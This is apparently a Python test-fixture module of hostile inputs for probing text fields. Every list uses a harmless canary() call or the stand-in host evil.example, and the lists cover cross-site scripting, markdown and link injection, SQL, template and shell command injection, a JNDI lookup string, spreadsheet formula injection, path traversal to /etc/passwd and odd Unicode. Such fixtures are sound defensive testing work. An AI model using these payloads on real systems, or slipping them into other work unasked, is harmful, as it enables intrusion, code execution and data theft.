"""The usual lists: what somebody puts into a text field to see whether it does something.

Whatever runs calls ``canary()``, and whatever is fetched is fetched from
:data:`EVIL`, so that a test can tell.
"""

from __future__ import annotations

EVIL = "evil.example"

SCRIPTS = (
    "<script>canary()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=canary()>",
    "<img src='https://evil.example/px.png'>",
    "<svg/onload=canary()>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<body onload=canary()>",
    "<iframe src='javascript:canary()'></iframe>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<a href='javascript:canary()'>click</a>",
    "<details open ontoggle=canary()>x</details>",
    "<input autofocus onfocus=canary()>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<object data=https://evil.example/></object><embed src=https://evil.example/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
    "'\"><script>canary()</script>",
    '"onmouseover=canary() x="',
    "' autofocus onfocus='canary()",
    "</title></textarea></script><script>canary()</script>",
    "<!--<img src=--><img src=x onerror=canary()//>",
    "javascript:canary()",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=canary() )//</stYle/</scRipt/--!>"
    "<sVg/<sVg/oNloAd=canary()//>",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "%3Cscript%3Ecanary()%3C/script%3E",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<img src=1 href=1 onerror='canary()'></img>",
)
MARKDOWN = (
    "[click](javascript:canary())",
    "[click](https://evil.example/)",
    "![px](https://evil.example/px.png)",
    "[![px](https://evil.example/px.png)](https://evil.example/)",
    "https://evil.example/path?x=1",
    "www.evil.example",
    "<https://evil.example/>",
    "eve@evil.example",
    "[x]: https://evil.example/ 'y'",
    "[^1] [^1]: https://evil.example/",
    "# Heading\n## Another",
    "| a | b |\n|---|---|\n| c | d |",
    "```\ncode\n```",
    "    code",
    "---",
    "> quote\n- item\n1. item",
    "**bold** __bold__ *it* ~~gone~~ `code`",
    ":red[red] :red-background[x] :rainbow[x] :blue-badge[x] :small[x]",
    ":material/home: :streamlit: :smile: :material/../x:",
    "$x^2$ $$\\frac{1}{2}$$ $\\href{javascript:canary()}{x}$ $\\includegraphics{https://evil.example/i}$",
    "a -> b <- c -- d >= e <= f ~= g",
    "::: directive\n:::",
    "price $5 and $6",
)
CODE = (
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
    "'; DROP TABLE jobs; -- ",
    '" OR 1=1 --',
    "%s %d %n {0} {name} {x.__class__}",
    "$(touch /tmp/owned) `id` ; id | id && id",
    "__import__('os').system('id')",
    "${jndi:ldap://evil.example/a}",
    "null undefined NaN true [] {} -1 1e400",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    '=IMPORTXML("https://evil.example/","//a")',
)
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\con\\con",
    "CON",
    "nul.csv",
    'a/b\\c:d*e?f"g<h>i|j',
    "%2e%2e%2fetc%2fpasswd",
    "file:///etc/passwd",
    ".",
    "..",
    "-rf",
    "~root",
)
LETTERS = (
    "a\u0000b\u0001c\u007fd",
    "\u202egnp.exe\u202c \u2066x\u2069",
    "\ufeffbom \u200bzero\u200dwidth\u2060joined",
    "Ź̸̡͎a̷l̵g̶o̸ " + "e\u0301" * 40,
    "👩‍👩‍👧‍👦🏳️‍🌈🇨🇭 Ωمرحبا שלום こんにちは",
    "ﷺ﷽ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ᴀʙᴄ",
    "\U000e0001\U000e0041\U000e007f",
    "ſtraße İstanbul ı K",
    "\u2028line\u2029paragraph",
    "W" * 400,
    "\x1b[31mred\x1b[0m\x07",
)
ALL = (*SCRIPTS, *MARKDOWN, *CODE, *FORMULAS, *PATHS, *LETTERS)

#: One text that tries a little of everything, for fields of which there is only one.
BRIEF = (
    "x'\"><script>canary()</script><img src=x onerror=canary()>[l](https://evil.example/)"
    "![p](https://evil.example/p.png) $x^2$ :red[r] www.evil.example"
)
